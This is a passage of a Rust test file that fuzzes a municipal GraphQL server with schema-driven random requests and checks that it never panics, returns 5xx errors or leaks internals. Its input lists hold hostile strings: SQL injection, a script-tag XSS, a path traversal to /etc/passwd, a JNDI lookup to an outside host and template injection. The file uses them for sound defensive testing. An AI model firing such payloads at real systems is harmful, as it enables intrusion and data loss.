//! A fuzz run of the GraphQL API against the real server: random requests generated from the
//! committed SDL (`crates/api/schema.graphql`), sent anonymously, as the operator and as a
//! city's administrator, on SQLite and on PostgreSQL, bounded in time.
//!
//! What it proves: whatever a client sends (empty, huge, control-character, right-to-left,
//! injection-looking, out-of-range or wrongly typed values, invalid enum names, random and
//! malformed ids, and the ids of real records of this tenant and of another one), the server
//! answers with an error a client can act on: never a 5xx, never the code `INTERNAL`, never a
//! message that shows its insides (SQL, the driver, source files, panics), and it never panics.
//! An `INTERNAL` is a case the code did not think of (a validation or a proper code should
//! cover it); a message with internals tells an attacker about the database.
//!
//! How: each request calls one root field of `Query` or `Mutation`, chosen at random. Its
//! arguments (required ones nearly always, optional ones half of the time) are filled from
//! their types, as variables four times out of five and inline otherwise; rarely a value of the
//! wrong kind or a missing required field tests the engine's own checks. Object answers select
//! their scalar and enum fields and one level of nested objects. Every `id` (and `…Id`) in the
//! answers goes into a pool that later ids are drawn from, so the run reaches real records;
//! a few records are seeded first (a body, people, meetings, minutes, a practice, funding),
//! and a second municipality gives foreign ids.
//!
//! Panics: the server answers a panicking handler with a 500 (its catch-panic layer, see
//! `crates/server/src/app.rs`), which fails the run; besides, a panic hook records every panic
//! in the process (the server's threads included), the same panics the log shows as
//! `thread '…' panicked at`.
//! Both databases' tests share the process, so a panic fails both of them.
//!
//! Deterministic: a xorshift64* generator seeded from `PRAEVNET_FUZZ_SEED` (a fixed default
//! otherwise); the seed is printed, and a failure names the request with its variables. The
//! harvested ids differ between runs (UUIDv7), the choices among them do not.
//!
//! Bounded: `PRAEVNET_FUZZ_REQUESTS` requests per principal (default 3,000), and at most
//! `PRAEVNET_FUZZ_SECONDS` seconds of fuzzing per database (default 60); a run cut off by the
//! time bound says so. `cargo test -p praevnet-server --test fuzz -- --nocapture` shows the
//! figures: requests per principal, seconds, requests per second, the root fields answered
//! without error, and the most frequent outcome codes.
//!
//! The logged-in principals keep their sessions for the whole run: `logout` is fuzzed only
//! anonymously, and their own account ids are never offered (`erasePerson` or `revokeRole`
//! would end them); a session lost anyway fails the run, since its requests ran as nobody.

mod support;

use std::collections::{BTreeMap, BTreeSet};
use std::sync::{Mutex, Once};
use std::time::{Duration, Instant};

use async_graphql::parser::parse_schema;
use async_graphql::parser::types::{
    BaseType, FieldDefinition, InputValueDefinition, Type, TypeKind, TypeSystemDefinition,
};
use praevnet_testkit::{SmtpSink, TestDatabase, on_both_databases};
use serde_json::{Map, Value, json};
use support::{TestApp, config_with_mail, returned_id};

const SDL: &str = include_str!("../crates/api/schema.graphql");
const PASSWORD: &str = "Nachtwächter-Eule-Saale-47";

const DEFAULT_SEED: u64 = 0x5EED_F022_2026_0001;
const DEFAULT_REQUESTS: u64 = 3_000;
const DEFAULT_SECONDS: u64 = 60;
/// How deep input objects nest their optional fields.
const INPUT_DEPTH: usize = 3;
/// How many harvested ids are kept.
const MAX_IDS: usize = 2_000;
const SHOWN_FAILURES: usize = 10;
/// A request without an answer by then hangs: a failure too.
const REQUEST_TIMEOUT: Duration = Duration::from_secs(30);

/// What an error message must not contain (compared in lower case).
const INTERNALS: &[&str] = &[
    "sqlx",
    "sea_orm",
    "sea-orm",
    "panicked",
    "src/",
    ".rs:",
    "sqlstate",
    "syntax error at",
    "thread '",
    "stack backtrace",
    "database error",
    "constraint",
];

/// Root fields that would end the session of the principal that calls them.
const ENDS_SESSION: &[&str] = &["logout"];

/// Strings for any text; none contains a marker of [`INTERNALS`], which an engine message
/// may repeat.
const NASTY: &[&str] = &[
    "",
    " ",
    " \t\n ",
    "\r\n\r\n",
    "\u{0}",
    "vor\u{0}nach",
    "\u{202E}abc",
    "\u{FEFF}Leipzig",
    "a\u{300}\u{301}\u{302}",
    "😀👩‍👩‍👧 🇩🇪",
    "'; DROP TABLE municipalities; --",
    "\" OR \"1\"=\"1",
    "<script>alert(1)</script>",
    "Größenänderung Übermaß ÄÖÜ äöü ß",
    "leipzig",
    "halle-saale",
    "Leipzig",
    "AG Test",
    "%s%n%x%d",
    "../../etc/passwd",
    "${jndi:ldap://example.org/a}",
    "\\",
    "{{7*7}}",
    "null",
    "-1",
    "2026-02-30",
    "9999-12-31",
    "betrieb@praevnet.test",
];

const EMAILS: &[&str] = &[
    "leitung@leipzig.de",
    "neu@praevnet.test",
    "Neu@Praevnet.TEST",
    "not-an-email",
    "a@b",
    "@praevnet.test",
    "x@",
    "ä@öü.de",
    "a+b@example.org",
    " leerzeichen@example.org ",
    "<script>@example.org",
    "a\u{0}@example.org",
];

/// None of them is a password of the run's accounts: a fuzzed login never succeeds.
const PASSWORDS: &[&str] = &[
    "",
    "kurz",
    "passwort123",
    "Nachtwächter-Eule-Saale-48",
    "Leuchtturm-Kompass-Zwickau-2027",
    "            ",
    "\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}",
];

const CSV: &[&str] = &[
    "",
    "gremium;name;rolle;beginn\nAG Test;Neue Person;Mitglied;01.02.2026",
    "gremium;name;rolle;beginn\nAG Test;X;Vorsitz;31.02.2026\n;;;",
    "\u{FEFF}gremium;name;rolle;beginn;ende\nAG Test;Ä;Mitglied;2026-01-01;2025-01-01",
    "gremium,name\n\"nicht geschlossen",
    "gremium;name;rolle;beginn;sektor;organisation\nUnbekannt;Y;Chef;heute;Mond;Neu",
];

const DATES: &[&str] = &[
    "2026-01-15",
    "2026-12-01",
    "2026-01-20",
    "2026-02-30",
    "9999-12-31",
    "0001-01-01",
    "1970-01-01",
    "2026-13-01",
    "2026-1-1",
    "",
    "heute",
    "2026-02-28T10:00:00Z",
    "+275760-09-13",
    "15.01.2026",
];

const DATE_TIMES: &[&str] = &[
    "2026-01-15T10:00:00Z",
    "9999-12-31T23:59:59Z",
    "2026-02-30T00:00:00Z",
    "2026-01-15",
    "gestern",
    "",
];

const TIMES: &[&str] = &[
    "18:00", "09:30", "00:00", "23:59", "24:00", "18:60", "7:5", "18:00:00", "", "abends", "-1:00",
];

const LINKS: &[&str] = &[
    "https://meet.example.org/praeventionsrat",
    "http://example.org",
    "javascript:alert(1)",
    "https://",
    "ftp://example.org/x",
    "data:text/html,<b>x</b>",
    "",
    "https://example.org/\u{0}",
];

const AGS: &[&str] = &[
    "14713000",
    "15002000",
    "1471300",
    "147130001",
    "abcdefgh",
    "00000000",
    "",
    "14 713 000",
];

const SLUGS: &[&str] = &[
    "leipzig",
    "halle-saale",
    "LEIPZIG",
    "leipzig/../x",
    "nicht-da",
    "",
];

const BAD_IDS: &[&str] = &[
    "not-a-uuid",
    "",
    "0",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "01890000-0000-7000-8000-00000000000g",
    "' OR 1=1 --",
    "\u{0}",
    "../leipzig",
];

const INTS: &[i64] = &[
    0,
    -1,
    1,
    2,
    5,
    50,
    100,
    2026,
    10_001,
    2_147_483_647,
    -2_147_483_648,
    2_147_483_648,
    -9_999_999_999,
];

const FLOATS: &[f64] = &[0.0, -1.0, 0.5, 1e300, -1e-300, 2_147_483_648.0, 100.25];

/// Records for the run to find, made by the operator: the name its id gets, and the mutation.
/// Each mutation gets the ids named before it that it declares as variables (`$city` is the
/// municipality of the city's administrator).
const SEEDS: &[(&str, &str)] = &[
    (
        "body",
        "mutation($city: ID!) { createBody(municipalityId: $city, input: { name: \"AG Test\", kind: WORKING_GROUP }) { id } }",
    ),
    (
        "person",
        "mutation($city: ID!) { savePerson(municipalityId: $city, input: { name: \"Leitung Ordnungsamt\", email: \"ordnungsamt@leipzig.de\" }) { id } }",
    ),
    (
        "organisation",
        "mutation($city: ID!) { saveOrganisation(municipalityId: $city, input: { name: \"Ordnungsamt\", sector: ADMINISTRATION }) { id } }",
    ),
    (
        "membership",
        "mutation($city: ID!, $body: ID!, $person: ID!) { addMembership(municipalityId: $city, input: { bodyId: $body, personId: $person, role: MEMBER, termStart: \"2026-01-01\" }) { id } }",
    ),
    (
        "rules",
        "mutation($city: ID!, $body: ID!) { adoptRulesOfProcedure(municipalityId: $city, input: { title: \"Geschäftsordnung\", text: \"§ 1\", adoptedByBodyId: $body, adoptedOn: \"2026-01-15\" }) { id } }",
    ),
    (
        "meeting",
        "mutation($city: ID!, $body: ID!) { saveMeeting(municipalityId: $city, input: { bodyId: $body, title: \"Sitzung\", date: \"2026-12-01\" }) { id } }",
    ),
    (
        "item",
        "mutation($city: ID!, $meeting: ID!) { saveAgendaItem(municipalityId: $city, meetingId: $meeting, input: { title: \"Bericht\" }) { id agenda { id } } }",
    ),
    (
        "past",
        "mutation($city: ID!, $body: ID!) { saveMeeting(municipalityId: $city, input: { bodyId: $body, title: \"Sitzung\", date: \"2026-01-20\" }) { id } }",
    ),
    (
        "pastItem",
        "mutation($city: ID!, $past: ID!) { saveAgendaItem(municipalityId: $city, meetingId: $past, input: { title: \"Bericht\" }) { id agenda { id } } }",
    ),
    (
        "attended",
        "mutation($city: ID!, $past: ID!, $person: ID!) { recordAttendance(municipalityId: $city, meetingId: $past, attendance: [{ personId: $person, attendance: PRESENT }]) { id participants { id } } }",
    ),
    (
        "minutes",
        "mutation($city: ID!, $past: ID!) { saveMinutes(municipalityId: $city, meetingId: $past, input: { notes: \"Eröffnung\" }) { id minutes { id } } }",
    ),
    (
        "recommendation",
        "mutation($city: ID!, $body: ID!) { saveRecommendation(municipalityId: $city, input: { title: \"Empfehlung\", sourceBodyId: $body, adoptingBodyId: $body, addressee: ADMINISTRATION }) { id } }",
    ),
    (
        "practice",
        "mutation($city: ID!) { savePractice(municipalityId: $city, input: { title: \"Praxis\", problem: \"P\", measures: \"M\", topics: [GRAFFITI], contact: \"Geschäftsstelle\" }) { id } }",
    ),
    (
        "published",
        "mutation($city: ID!, $practice: ID!) { publishPractice(municipalityId: $city, id: $practice) { id } }",
    ),
    (
        "programme",
        "mutation { saveFundingProgramme(input: { federalState: SN, name: \"Programm\", provider: \"LPR\", totalBudget: 1000000 }) { id } }",
    ),
    (
        "offer",
        "mutation { saveSupportOffer(input: { federalState: SN, kind: COACHING, title: \"Coaching\" }) { id } }",
    ),
    (
        "application",
        "mutation($city: ID!, $programme: ID!) { applyForFunding(municipalityId: $city, input: { programmeId: $programme, projectTitle: \"Projekt\", requestedAmount: 1000 }) { id } }",
    ),
    (
        "request",
        "mutation($city: ID!, $offer: ID!) { requestSupport(municipalityId: $city, offerId: $offer) { id } }",
    ),
    (
        "catalogue",
        "mutation($city: ID!) { saveCatalogueOffer(certifierId: $city, input: { title: \"Workshop\", provider: \"Träger\", format: WORKSHOP }) { id } }",
    ),
];

// ---------------------------------------------------------------------------------------------
// Panics anywhere in the process.

static PANICS: Mutex<Vec<String>> = Mutex::new(Vec::new());
static RECORDER: Once = Once::new();

/// Records every panic of the process from now on, and prints it as before.
fn record_panics() {
    RECORDER.call_once(|| {
        let previous = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |info: &std::panic::PanicHookInfo<'_>| {
            let thread = std::thread::current()
                .name()
                .unwrap_or("unnamed")
                .to_owned();
            if let Ok(mut panics) = PANICS.lock() {
                panics.push(format!("thread '{thread}' {info}"));
            }
            previous(info);
        }));
    });
}

fn recorded_panics() -> Vec<String> {
    PANICS
        .lock()
        .map(|panics| panics.to_vec())
        .unwrap_or_default()
}

// ---------------------------------------------------------------------------------------------
// Settings and the generator of random numbers.

struct Settings {
    seed: u64,
    requests: u64,
    budget: Duration,
}

impl Settings {
    fn from_env() -> Settings {
        Settings {
            seed: env_number("PRAEVNET_FUZZ_SEED").unwrap_or(DEFAULT_SEED),
            requests: env_number("PRAEVNET_FUZZ_REQUESTS").unwrap_or(DEFAULT_REQUESTS),
            budget: Duration::from_secs(
                env_number("PRAEVNET_FUZZ_SECONDS").unwrap_or(DEFAULT_SECONDS),
            ),
        }
    }
}

/// A number from the environment; a value that is not one is a mistake, said as such.
fn env_number(name: &str) -> Option<u64> {
    let value = std::env::var(name).ok()?;
    Some(
        value
            .trim()
            .parse()
            .unwrap_or_else(|_| panic!("{name} is not a whole number: {value:?}")),
    )
}

/// xorshift64*: small, fast and the same on every machine.
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        // Zero is the one state xorshift never leaves.
        Rng(if seed == 0 { DEFAULT_SEED } else { seed })
    }

    fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    /// A number below `n` (which must not be 0).
    fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n as u64) as usize
    }

    fn chance(&mut self, percent: u64) -> bool {
        self.next_u64() % 100 < percent
    }

    /// One of `items` (which must not be empty).
    fn pick<'p, T>(&mut self, items: &'p [T]) -> &'p T {
        &items[self.below(items.len())]
    }
}

// ---------------------------------------------------------------------------------------------
// The schema, as far as the generator needs it.

/// An argument or a field of an input object.
#[derive(Clone)]
struct Input {
    name: String,
    ty: Type,
    /// Non-null without a default: a request without it is invalid.
    required: bool,
}

#[derive(Clone)]
struct Field {
    name: String,
    args: Vec<Input>,
    ty: Type,
}

enum Kind {
    Object(Vec<Field>),
    InputObject(Vec<Input>),
    Enum(Vec<String>),
    /// Interfaces and unions: only `__typename` is selected.
    Abstract,
    Leaf,
}

/// A root field with its selection set.
struct Root {
    operation: &'static str,
    field: Field,
    selection: String,
}

struct Schema {
    kinds: BTreeMap<String, Kind>,
    roots: Vec<Root>,
}

impl Schema {
    fn load() -> Schema {
        let document = parse_schema(SDL).expect("the committed SDL parses");
        let mut kinds = BTreeMap::new();
        for definition in document.definitions {
            if let TypeSystemDefinition::Type(definition) = definition {
                let definition = definition.node;
                kinds.insert(definition.name.node.to_string(), kind_of(definition.kind));
            }
        }
        let mut schema = Schema {
            kinds,
            roots: Vec::new(),
        };
        let mut roots = Vec::new();
        for (operation, type_name) in [("query", "Query"), ("mutation", "Mutation")] {
            let Some(Kind::Object(fields)) = schema.kinds.get(type_name) else {
                panic!("the SDL has no type {type_name}");
            };
            for field in fields {
                roots.push(Root {
                    operation,
                    field: field.clone(),
                    selection: schema.selection(&field.ty, 0),
                });
            }
        }
        schema.roots = roots;
        schema
    }

    /// Scalars (built-in ones are not in the SDL) and enums have no selection set.
    fn is_leaf(&self, ty: &Type) -> bool {
        matches!(
            self.kinds.get(base_name(ty)),
            None | Some(Kind::Leaf | Kind::Enum(_))
        )
    }

    /// What to select of a field of type `ty`: nothing of a leaf; of an object its leaves
    /// without required arguments, and at the top its nested objects' leaves.
    fn selection(&self, ty: &Type, depth: usize) -> String {
        match self.kinds.get(base_name(ty)) {
            Some(Kind::Object(fields)) => {
                let mut parts = Vec::new();
                for field in fields.iter().filter(|f| f.args.iter().all(|a| !a.required)) {
                    if self.is_leaf(&field.ty) {
                        parts.push(field.name.clone());
                    } else if depth == 0 {
                        parts.push(format!("{} {}", field.name, self.selection(&field.ty, 1)));
                    }
                }
                if parts.is_empty() {
                    parts.push("__typename".to_owned());
                }
                format!("{{ {} }}", parts.join(" "))
            }
            Some(Kind::Abstract) => "{ __typename }".to_owned(),
            _ => String::new(),
        }
    }

    /// The root fields `caller` gets to call.
    fn operations(&self, caller: &Caller) -> Vec<usize> {
        self.roots
            .iter()
            .enumerate()
            .filter(|(_, root)| {
                caller.cookie.is_none() || !ENDS_SESSION.contains(&root.field.name.as_str())
            })
            .map(|(index, _)| index)
            .collect()
    }
}

fn kind_of(kind: TypeKind) -> Kind {
    match kind {
        TypeKind::Object(object) => {
            Kind::Object(object.fields.iter().map(|f| field_of(&f.node)).collect())
        }
        TypeKind::InputObject(input) => {
            Kind::InputObject(input.fields.iter().map(|f| input_of(&f.node)).collect())
        }
        TypeKind::Enum(values) => Kind::Enum(
            values
                .values
                .iter()
                .map(|v| v.node.value.node.to_string())
                .collect(),
        ),
        TypeKind::Interface(_) | TypeKind::Union(_) => Kind::Abstract,
        TypeKind::Scalar => Kind::Leaf,
    }
}

fn field_of(field: &FieldDefinition) -> Field {
    Field {
        name: field.name.node.to_string(),
        args: field.arguments.iter().map(|a| input_of(&a.node)).collect(),
        ty: field.ty.node.clone(),
    }
}

fn input_of(input: &InputValueDefinition) -> Input {
    Input {
        name: input.name.node.to_string(),
        ty: input.ty.node.clone(),
        required: !input.ty.node.nullable && input.default_value.is_none(),
    }
}

/// The named type inside any lists.
fn base_name(ty: &Type) -> &str {
    match &ty.base {
        BaseType::Named(name) => name.as_str(),
        BaseType::List(item) => base_name(item),
    }
}

// ---------------------------------------------------------------------------------------------
// Values and requests.

/// A generated value, which knows whether it is an enum (bare when inline).
enum Arg {
    Null,
    Bool(bool),
    Int(i64),
    Float(f64),
    Str(String),
    Enum(String),
    List(Vec<Arg>),
    Object(Vec<(String, Arg)>),
}

impl Arg {
    fn json(&self) -> Value {
        match self {
            Arg::Null => Value::Null,
            Arg::Bool(b) => Value::Bool(*b),
            Arg::Int(i) => Value::from(*i),
            Arg::Float(f) => Value::from(*f),
            Arg::Str(s) | Arg::Enum(s) => Value::from(s.as_str()),
            Arg::List(items) => Value::Array(items.iter().map(Arg::json).collect()),
            Arg::Object(fields) => Value::Object(
                fields
                    .iter()
                    .map(|(name, value)| (name.clone(), value.json()))
                    .collect(),
            ),
        }
    }

    /// The value written into the query; JSON's string escapes are GraphQL's too.
    fn literal(&self) -> String {
        match self {
            Arg::Null => "null".to_owned(),
            Arg::Bool(b) => b.to_string(),
            Arg::Int(i) => i.to_string(),
            Arg::Float(_) | Arg::Str(_) => self.json().to_string(),
            Arg::Enum(name) => name.clone(),
            Arg::List(items) => {
                let items: Vec<String> = items.iter().map(Arg::literal).collect();
                format!("[{}]", items.join(", "))
            }
            Arg::Object(fields) => {
                let fields: Vec<String> = fields
                    .iter()
                    .map(|(name, value)| format!("{name}: {}", value.literal()))
                    .collect();
                format!("{{{}}}", fields.join(", "))
            }
        }
    }
}

/// One GraphQL request of the run.
struct Request {
    field: String,
    query: String,
    variables: Map<String, Value>,
}

impl Request {
    fn body(&self) -> Value {
        json!({ "query": self.query, "variables": self.variables })
    }
}

/// Makes requests, and remembers the ids the answers showed.
struct Fuzzer<'s> {
    schema: &'s Schema,
    rng: Rng,
    ids: Vec<String>,
    known: BTreeSet<String>,
    /// The accounts of the run's principals, never offered as ids.
    protected: BTreeSet<String>,
    slugs: Vec<String>,
}

impl<'s> Fuzzer<'s> {
    fn new(schema: &'s Schema, seed: u64) -> Fuzzer<'s> {
        Fuzzer {
            schema,
            rng: Rng::new(seed),
            ids: Vec::new(),
            known: BTreeSet::new(),
            protected: BTreeSet::new(),
            slugs: Vec::new(),
        }
    }

    fn protect(&mut self, callers: &[Caller]) {
        for account in callers.iter().filter_map(|c| c.account.as_deref()) {
            self.protected.insert(account.to_owned());
        }
    }

    fn request(&mut self, root: &Root) -> Request {
        let inline = self.rng.chance(20);
        let mut declarations = Vec::new();
        let mut arguments = Vec::new();
        let mut variables = Map::new();
        for arg in &root.field.args {
            let wanted = if arg.required {
                !self.rng.chance(1)
            } else {
                self.rng.chance(50)
            };
            if !wanted {
                continue;
            }
            let value = self.value(&arg.ty, &arg.name, 0);
            if inline {
                arguments.push(format!("{}: {}", arg.name, value.literal()));
            } else {
                let variable = format!("a{}", variables.len());
                declarations.push(format!("${variable}: {}", arg.ty));
                arguments.push(format!("{}: ${variable}", arg.name));
                variables.insert(variable, value.json());
            }
        }
        let query = format!(
            "{} Fuzz{} {{ {}{} {} }}",
            root.operation,
            parenthesised(&declarations),
            root.field.name,
            parenthesised(&arguments),
            root.selection
        );
        Request {
            field: root.field.name.clone(),
            query,
            variables,
        }
    }

    fn value(&mut self, ty: &Type, name: &str, depth: usize) -> Arg {
        if self.rng.chance(1) {
            return self.wrong_kind();
        }
        if ty.nullable && self.rng.chance(10) {
            return Arg::Null;
        }
        match &ty.base {
            BaseType::List(item) => {
                let length = self.rng.below(4);
                Arg::List((0..length).map(|_| self.value(item, name, depth)).collect())
            }
            BaseType::Named(type_name) => self.named(type_name.as_str(), name, depth),
        }
    }

    fn named(&mut self, type_name: &str, name: &str, depth: usize) -> Arg {
        let schema = self.schema;
        match (type_name, schema.kinds.get(type_name)) {
            ("String", _) => Arg::Str(self.string(name)),
            ("ID", _) => Arg::Str(self.id()),
            ("Int", _) => Arg::Int(*self.rng.pick(INTS)),
            ("Float", _) => Arg::Float(*self.rng.pick(FLOATS)),
            ("Boolean", _) => Arg::Bool(self.rng.chance(50)),
            ("NaiveDate", _) => Arg::Str(self.one_of(DATES)),
            ("DateTime", _) => Arg::Str(self.one_of(DATE_TIMES)),
            (_, Some(Kind::Enum(values))) => Arg::Enum(self.enum_value(values)),
            (_, Some(Kind::InputObject(fields))) => self.object(fields, depth),
            _ => Arg::Str(self.string(name)),
        }
    }

    fn object(&mut self, fields: &[Input], depth: usize) -> Arg {
        let mut entries = Vec::new();
        for field in fields {
            let wanted = if field.required {
                !self.rng.chance(1)
            } else {
                depth < INPUT_DEPTH && self.rng.chance(50)
            };
            if wanted {
                let value = self.value(&field.ty, &field.name, depth + 1);
                entries.push((field.name.clone(), value));
            }
        }
        Arg::Object(entries)
    }

    fn enum_value(&mut self, values: &[String]) -> String {
        if values.is_empty() || self.rng.chance(5) {
            return "NOT_A_VALUE".to_owned();
        }
        self.rng.pick(values).clone()
    }

    /// A value of the wrong kind, for the engine's own checks.
    fn wrong_kind(&mut self) -> Arg {
        match self.rng.below(7) {
            0 => Arg::Int(7),
            1 => Arg::Str("x".to_owned()),
            2 => Arg::Bool(true),
            3 => Arg::List(Vec::new()),
            4 => Arg::Object(Vec::new()),
            5 => Arg::Null,
            _ => Arg::Float(0.5),
        }
    }

    /// A string, often one that fits the argument's name.
    fn string(&mut self, name: &str) -> String {
        if self.rng.chance(40) {
            return self.nasty();
        }
        let lower = name.to_ascii_lowercase();
        if lower == "id" || name.ends_with("Id") {
            self.id()
        } else if lower == "token" {
            self.token()
        } else if lower == "slug" {
            self.slug()
        } else if lower.contains("email") {
            self.one_of(EMAILS)
        } else if lower.contains("password") {
            self.one_of(PASSWORDS)
        } else if lower == "csv" {
            self.one_of(CSV)
        } else if lower.ends_with("time") {
            self.one_of(TIMES)
        } else if lower.contains("link") {
            self.one_of(LINKS)
        } else if lower == "ags" {
            self.one_of(AGS)
        } else {
            self.nasty()
        }
    }

    fn nasty(&mut self) -> String {
        let index = self.rng.below(NASTY.len() + 3);
        if let Some(text) = NASTY.get(index) {
            return (*text).to_owned();
        }
        match index - NASTY.len() {
            0 => "x".repeat(10_000),
            1 => "ä".repeat(300),
            _ => "a".repeat(256),
        }
    }

    fn one_of(&mut self, pool: &[&str]) -> String {
        (*self.rng.pick(pool)).to_owned()
    }

    /// Mostly an id seen in an answer, else a random UUID or a malformed id.
    fn id(&mut self) -> String {
        if !self.ids.is_empty() && self.rng.chance(65) {
            return self.rng.pick(&self.ids).clone();
        }
        if self.rng.chance(70) {
            return self.uuid();
        }
        self.one_of(BAD_IDS)
    }

    fn slug(&mut self) -> String {
        if !self.slugs.is_empty() && self.rng.chance(60) {
            return self.rng.pick(&self.slugs).clone();
        }
        self.one_of(SLUGS)
    }

    /// A UUIDv7-shaped id that names nothing.
    fn uuid(&mut self) -> String {
        let (high, low) = (self.rng.next_u64(), self.rng.next_u64());
        format!(
            "{:08x}-{:04x}-7{:03x}-{:04x}-{:012x}",
            high >> 32,
            (high >> 16) & 0xffff,
            high & 0x0fff,
            0x8000 | ((low >> 48) & 0x3fff),
            low & 0xffff_ffff_ffff
        )
    }

    /// 64 hex digits, the shape of the links' tokens and of session secrets.
    fn token(&mut self) -> String {
        let words = [
            self.rng.next_u64(),
            self.rng.next_u64(),
            self.rng.next_u64(),
            self.rng.next_u64(),
        ];
        format!(
            "{:016x}{:016x}{:016x}{:016x}",
            words[0], words[1], words[2], words[3]
        )
    }

    /// The caller's session cookie; anonymous requests sometimes carry a made-up one.
    fn cookie_for(&mut self, caller: &Caller) -> Option<String> {
        match &caller.cookie {
            Some(cookie) => Some(cookie.clone()),
            None if self.rng.chance(10) => Some(format!("praevnet_session={}", self.token())),
            None => None,
        }
    }

    /// Keeps every `id`, `…Id` and `slug` of an answer's data.
    fn harvest(&mut self, value: &Value) {
        match value {
            Value::Object(fields) => {
                for (key, field) in fields {
                    match field {
                        Value::String(text) if key == "id" || key.ends_with("Id") => {
                            self.remember_id(text);
                        }
                        Value::String(text) if key == "slug" => self.remember_slug(text),
                        _ => self.harvest(field),
                    }
                }
            }
            Value::Array(items) => {
                for item in items {
                    self.harvest(item);
                }
            }
            _ => {}
        }
    }

    fn remember_id(&mut self, id: &str) {
        if self.ids.len() < MAX_IDS
            && !self.protected.contains(id)
            && self.known.insert(id.to_owned())
        {
            self.ids.push(id.to_owned());
        }
    }

    fn remember_slug(&mut self, slug: &str) {
        if self.slugs.len() < 100 && !self.slugs.iter().any(|s| s == slug) {
            self.slugs.push(slug.to_owned());
        }
    }
}

/// `(a, b)`, or nothing for no items.
fn parenthesised(items: &[String]) -> String {
    if items.is_empty() {
        String::new()
    } else {
        format!("({})", items.join(", "))
    }
}

// ---------------------------------------------------------------------------------------------
// Principals and seed records.

/// Who sends a request.
struct Caller {
    name: &'static str,
    cookie: Option<String>,
    account: Option<String>,
}

impl Caller {
    async fn logged_in(app: &TestApp, name: &'static str, cookie: String) -> Caller {
        let me = app.in_session(&cookie, "{ me { id } }", json!({})).await;
        let account = me["data"]["me"]["id"]
            .as_str()
            .unwrap_or_else(|| panic!("{name} is logged in: {me}"))
            .to_owned();
        Caller {
            name,
            cookie: Some(cookie),
            account: Some(account),
        }
    }
}

/// Anonymous, the operator, and the administrator of `city` (onboarded by mail).
async fn callers(app: &TestApp, sink: &SmtpSink, city: &str) -> Vec<Caller> {
    let role = json!({ "role": "MUNICIPALITY_ADMIN", "municipalityId": city });
    let city_admin = app
        .onboard(sink, "leitung@leipzig.de", role, PASSWORD)
        .await;
    vec![
        Caller {
            name: "anonymous",
            cookie: None,
            account: None,
        },
        Caller::logged_in(app, "operator", app.admin_cookie()).await,
        Caller::logged_in(app, "city admin", city_admin).await,
    ]
}

/// Makes the [`SEEDS`] as the operator; their answers feed the pool of ids.
async fn seed_records(app: &TestApp, city: &str, fuzzer: &mut Fuzzer<'_>) {
    let mut ids = Map::new();
    ids.insert("city".to_owned(), Value::from(city));
    for &(name, query) in SEEDS {
        let variables: Map<String, Value> = ids
            .iter()
            .filter(|(key, _)| query.contains(&format!("${key}:")))
            .map(|(key, id)| (key.clone(), id.clone()))
            .collect();
        let body = app.admin(query, Value::Object(variables)).await;
        assert!(body["errors"].is_null(), "seed record {name}: {body}");
        fuzzer.harvest(&body["data"]);
        let id = returned_id(&body).unwrap_or_else(|| panic!("seed record {name}: {body}"));
        ids.insert(name.to_owned(), Value::from(id));
    }
}

// ---------------------------------------------------------------------------------------------
// Sending and judging.

/// Status and body of the answer, or why there is none.
async fn send(
    app: &TestApp,
    body: &Value,
    cookie: Option<&str>,
    english: bool,
) -> Result<(u16, String), String> {
    let mut request = app
        .client
        .post(app.url("/graphql"))
        .timeout(REQUEST_TIMEOUT)
        .json(body);
    if let Some(cookie) = cookie {
        request = request
            .header("cookie", cookie)
            .header("x-praevnet-csrf", "1");
    }
    if english {
        request = request.header("accept-language", "en");
    }
    let response = request.send().await.map_err(|err| {
        format!("no answer (a panic in a handler drops the connection; a hang times out): {err:?}")
    })?;
    let status = response.status().as_u16();
    let text = response
        .text()
        .await
        .map_err(|err| format!("HTTP {status}, the body broke off: {err:?}"))?;
    Ok((status, text))
}

/// What is wrong with an answer; nothing when it is data or an error a client can act on.
fn findings(status: u16, body: Option<&Value>) -> Vec<String> {
    let mut found = Vec::new();
    if status >= 500 {
        found.push(format!("HTTP {status}"));
    }
    let Some(body) = body else {
        // A body above the limit is refused with 413 before GraphQL, without a body.
        if status != 413 {
            found.push("the answer is not JSON".to_owned());
        }
        return found;
    };
    if body.get("data").is_none() && body.get("errors").is_none() {
        found.push("the answer has neither `data` nor `errors`".to_owned());
    }
    if let Some(errors) = body["errors"].as_array() {
        for error in errors {
            let message = error["message"].as_str().unwrap_or_default();
            if error["extensions"]["code"] == "INTERNAL" {
                found.push(format!("INTERNAL: {message}"));
            }
            let lower = message.to_lowercase();
            if let Some(marker) = INTERNALS.iter().find(|marker| lower.contains(**marker)) {
                found.push(format!("the message shows internals ({marker}): {message}"));
            }
        }
    }
    found
}

/// `OK`, or the code of the first error.
fn outcome(body: &Value) -> String {
    match (
        &body["errors"],
        body["errors"][0]["extensions"]["code"].as_str(),
    ) {
        (Value::Null, _) => "OK".to_owned(),
        (_, Some(code)) => code.to_owned(),
        (_, None) => "(no code)".to_owned(),
    }
}

struct Failure {
    caller: &'static str,
    request: Request,
    status: Option<u16>,
    answer: String,
    findings: Vec<String>,
}

impl Failure {
    fn describe(&self) -> String {
        let status = self
            .status
            .map_or_else(|| "no answer".to_owned(), |s| format!("HTTP {s}"));
        let variables = shorten(&Value::Object(self.request.variables.clone()));
        format!(
            "{} as {} ({status}): {}\n  query: {}\n  variables: {variables}\n  answer: {}",
            self.request.field,
            self.caller,
            self.findings.join("; "),
            abbreviate(&self.request.query, 2_000),
            abbreviate(&self.answer, 1_000)
        )
    }
}

/// Long strings cut for the report (the seed repeats the whole request).
fn shorten(value: &Value) -> Value {
    match value {
        Value::String(text) if text.chars().count() > 120 => Value::from(abbreviate(text, 40)),
        Value::Array(items) => Value::Array(items.iter().map(shorten).collect()),
        Value::Object(fields) => Value::Object(
            fields
                .iter()
                .map(|(name, field)| (name.clone(), shorten(field)))
                .collect(),
        ),
        other => other.clone(),
    }
}

fn abbreviate(text: &str, max: usize) -> String {
    let count = text.chars().count();
    if count <= max {
